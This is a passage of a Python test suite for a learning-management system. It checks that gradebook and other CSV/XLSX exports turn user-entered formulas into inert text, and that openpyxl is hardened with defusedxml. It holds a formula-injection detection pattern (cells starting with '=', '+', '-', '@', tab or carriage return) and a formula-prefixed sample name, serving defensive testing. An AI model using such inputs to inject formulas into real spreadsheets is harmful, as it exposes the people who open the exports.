        schema = _schema_of(app, "GET", rule.rule)
        if schema is not None and "format" in schema.fields:
            found.add(("GET", rule.rule))
    assert found == set(EXPORTS), found


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cells.append(("FORMULA", cell.value))
                else:
                    cells.append(cell.value)
    return cells


def test_exports_neutralise_formulas(app, sweep):
    """Formulas typed into names, institutions and module titles (through the API and
    through a roster import) come out of every CSV and XLSX export as text with a leading
    apostrophe: no cell a spreadsheet would evaluate."""
    ids = sweep.world.ids
    admin = sweep.clients[ADMIN]
    assert (
        admin.patch(
            f"/api/v1/users/{ids['t3_id']}",
            json={"full_name": FORMULAS[0], "institution": FORMULAS[1]},
        ).status_code
        == 200
    )
    assert (
        admin.patch(
            f"/api/v1/modules/{ids['plain_module_id']}", json={"title": FORMULAS[3]}
        ).status_code
        == 200
    )
    roster = f'email,full_name,institution\nformula@example.edu.cn,{FORMULAS[2]},"{FORMULAS[4]}"\n'
    imported = admin.post(
        f"/api/v1/courses/{ids['course_id']}/enrollments/import",
        **_multipart(file=(io.BytesIO(roster.encode()), "roster.csv")),
    )
    assert imported.status_code == 200, imported.get_json()
    instructor = sweep.clients[INSTR]
    wrong = []
    for (method, rule), formats in EXPORTS.items():
        path = rule.replace("<int:course_id>", str(ids["course_id"]))
        client = admin if rule == "/api/v1/certificates" else instructor
        for fmt in formats:
            for lang in ("en", "zh"):
                response = client.get(f"{path}?format={fmt}&lang={lang}")
                assert response.status_code == 200, response.get_data()[:300]
                cells = _csv_cells(response.data) if fmt == "csv" else _xlsx_cells(response.data)
                evidence.add("formula exports checked", 1)
                texts = [c for c in cells if isinstance(c, str)]
                wrong += [f"{fmt}/{lang}: {c}" for c in cells if isinstance(c, tuple)]
                wrong += [
                    f"{fmt}/{lang}: live formula {c!r}" for c in texts if c and c[0] in "=+-@\t\r"
                ]
                if (method, rule) != GRADEBOOK:
                    continue  # the others hold only some of the formula cells
                for formula in FORMULAS:
                    if not any(c == "'" + formula or c.startswith("'" + formula) for c in texts):
                        wrong.append(f"{fmt}/{lang}: {formula!r} not exported as text")
    assert not wrong, "\n".join(wrong)


def test_the_snapshot_sees_every_kind_of_write(app, sweep):
    """The sensor the sweep relies on: a new row, a changed row, a deleted row and a stored
    file each show up in the snapshot diff (else "nothing written" would prove nothing)."""
    ids = sweep.world.ids
    admin, t3 = sweep.clients[ADMIN], sweep.clients[T3]
    writes = [
        (admin, "POST", "/api/v1/programs", {"json": {"code": "SEEN", "title": "新项目"}}),
        (admin, "PATCH", f"/api/v1/users/{ids['t1_id']}", {"json": {"department": "机电系"}}),
        (admin, "DELETE", f"/api/v1/modules/{ids['plain_module_id']}", {}),
        (
            t3,
            "POST",
            f"/api/v1/modules/{ids['practical_module_id']}/submissions",
            _multipart(files=[(io.BytesIO(PDF_BYTES), "report.pdf")]),
        ),
    ]
    for client, method, path, kwargs in writes:
        connection = db.session.connection()
        savepoint = connection.begin_nested()
        try:
            before = Snapshot.take(sweep.upload_dir)
            response = client.open(method, path, **kwargs)
            after = Snapshot.take(sweep.upload_dir)
        finally:
            savepoint.rollback()
            db.session.expire_all()
        assert response.status_code < 300, (path, response.get_data()[:300])
        changes = before.diff(after)
        assert changes, f"{method} {path} wrote nothing the snapshot could see"
        if "submissions" in path:
            assert any(c.startswith("upload dir") for c in changes), changes


def test_exports_survive_control_characters_in_stored_data(app, sweep):
    """Names stored before control characters were refused at the door (or written by
    another tool) must not break the XLSX export: openpyxl refuses them in a cell."""
    from lms.accounts.models import User

    user = db.session.get(User, sweep.world.ids["t3_id"])
    user.full_name = "周\x0b新\x07"
    user.institution = "=广州\x1b职业技术学院"
    db.session.commit()
    path = f"/api/v1/courses/{sweep.world.ids['course_id']}/gradebook"
    for fmt in ("xlsx", "csv"):
        response = sweep.clients[INSTR].get(f"{path}?format={fmt}")
        evidence.add("formula exports checked", 1)
        assert response.status_code == 200, response.get_data()[:300]
        cells = _csv_cells(response.data) if fmt == "csv" else _xlsx_cells(response.data)
        texts = [c for c in cells if isinstance(c, str)]
        assert "周新" in texts, [t for t in texts if "新" in t or "广州" in t]
        assert "'=广州职业技术学院" in texts, [t for t in texts if "新" in t or "广州" in t]


def test_openpyxl_reads_workbooks_with_defusedxml():
    """defusedxml (pinned in requirements.txt) makes openpyxl refuse DTD entities."""
    import openpyxl

    assert openpyxl.DEFUSEDXML is True
